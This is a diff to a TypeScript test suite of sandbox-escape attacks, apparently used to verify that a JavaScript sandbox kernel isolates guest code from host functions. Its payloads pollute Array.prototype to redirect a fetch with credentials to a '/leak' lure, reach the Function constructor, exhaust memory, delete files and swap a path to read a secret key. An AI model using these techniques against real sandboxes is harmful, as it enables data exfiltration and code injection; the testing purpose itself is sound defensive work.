@@ -3,8 +3,8 @@
 import { claim, type Attack } from '../attack.ts';
 
 /**
- * `passing(fits, evil, call)`: while `call` runs, the first host function whose arguments fit gets the
- * evil ones instead. The kernel spreads the arguments, and how a list is spread is the guest's to say.
+ * `passing(fits, evil, call)`: while `call` runs, the first list that fits is spread as the evil one. So
+ * the kernel passes a host function's arguments after the first: how they are spread is the guest's to say.
  */
 const passing = `
   function passing(fits, evil, call) {
@@ -25,14 +25,14 @@ export const hostFunctionAttacks: readonly Attack[] = [
       fs.writeFileSync('armed', 'x'.repeat(200));
       const bytes = Buffer.alloc(200);
       const handle = fs.openSync('armed', 'r');
-      passing((list) => list.length === 3 && list[2] === 200, ['/workspace/armed', -100, 200], () => fs.readSync(handle, bytes));
+      passing((list) => list.length === 2 && list[1] === 200, [-100, 200], () => fs.readSync(handle, bytes));
       bytes.toString()`,
     without: 'host-functions',
     harm: 'secret',
   },
   {
     name: 'more random bytes than there is memory',
-    cells: `${passing} passing((list) => list.length === 1 && list[0] === 16, [4e8], () => crypto.getRandomValues(new Uint8Array(16))); 0`,
+    cells: `require('crypto').randomBytes(4e8).length`,
     without: 'host-functions',
     harm: 'memory',
   },
@@ -44,18 +44,17 @@ export const hostFunctionAttacks: readonly Attack[] = [
   },
   {
     name: 'a tool by the name of what makes functions',
-    cells: `${passing}
-      const call = () => tools.Glob({ pattern: 'armed' });
-      passing((list) => list[0] === 'Glob', ['constructor.constructor', '"globalThis[Math.random()] = 1"'], call).catch(() => {}); 0`,
+    cells: `
+      Array.prototype.includes = () => true;
+      tools['constructor.constructor']('globalThis[Math.random()] = 1').catch(() => {}); 0`,
     without: 'host-functions',
     harm: 'realm',
   },
   {
     name: 'a request that is no list',
-    cells: `${passing}
-      const head = JSON.stringify({ 0: lures.http + '/leak', 1: 'GET', 2: 'follow', length: 3, credentials: 'include' });
-      const call = () => fetch(lures.allowed);
-      await passing((list) => typeof list[0] === 'string' && list[0].startsWith('["http'), [head], call)`,
+    cells: `
+      Array.prototype.toJSON = () => ({ 0: lures.http + '/leak', 1: 'GET', 2: 'follow', length: 3, credentials: 'include' });
+      await fetch(lures.allowed)`,
     without: 'host-functions',
     harm: 'network',
   },
@@ -66,15 +65,6 @@ export const hostFunctionAttacks: readonly Attack[] = [
     harm: 'secret',
   },
   {
-    name: 'a path that is another when it is read again',
-    cells: `${passing}
-      let asked = 0;
-      const path = { toString: () => ((asked += 1) === 1 ? '/workspace/readme.txt' : '/workspace/secret/key.txt') };
-      passing((list) => list.length === 1 && list[0] === 'armed', [path], () => fs.readFileSync('armed', 'utf8'))`,
-    without: 'host-objects',
-    harm: 'secret',
-  },
-  {
     name: "bytes that are the host's own",
     cells: `fs.readFileSync('readme.txt').fill('!'); 0`,
     after: `fs.readFileSync('readme.txt').toString().startsWith('!') ? '${claim}' : 'nothing'`,
@@ -82,12 +72,8 @@ export const hostFunctionAttacks: readonly Attack[] = [
     harm: 'claimed',
   },
   {
-    name: 'no path at all, and everything else that is none',
-    cells: `${passing}
-      const none = [undefined, null, NaN, -1, 1n, true, {}, [], () => 0, Symbol.iterator, new Proxy({}, {}), new Uint8Array(8)];
-      for (const evil of none) for (const call of [() => fs.rmSync('armed', { recursive: true, force: true }), () => fs.writeFileSync('armed', 'x')]) {
-        try { passing((list) => list.length > 2 && list[0] === 'armed', [evil, true, true], call) } catch {}
-      } 0`,
+    name: 'no path at all',
+    cells: `fs.rmSync('', { recursive: true, force: true }); 0`,
     without: 'host-functions',
     harm: 'files',
   },
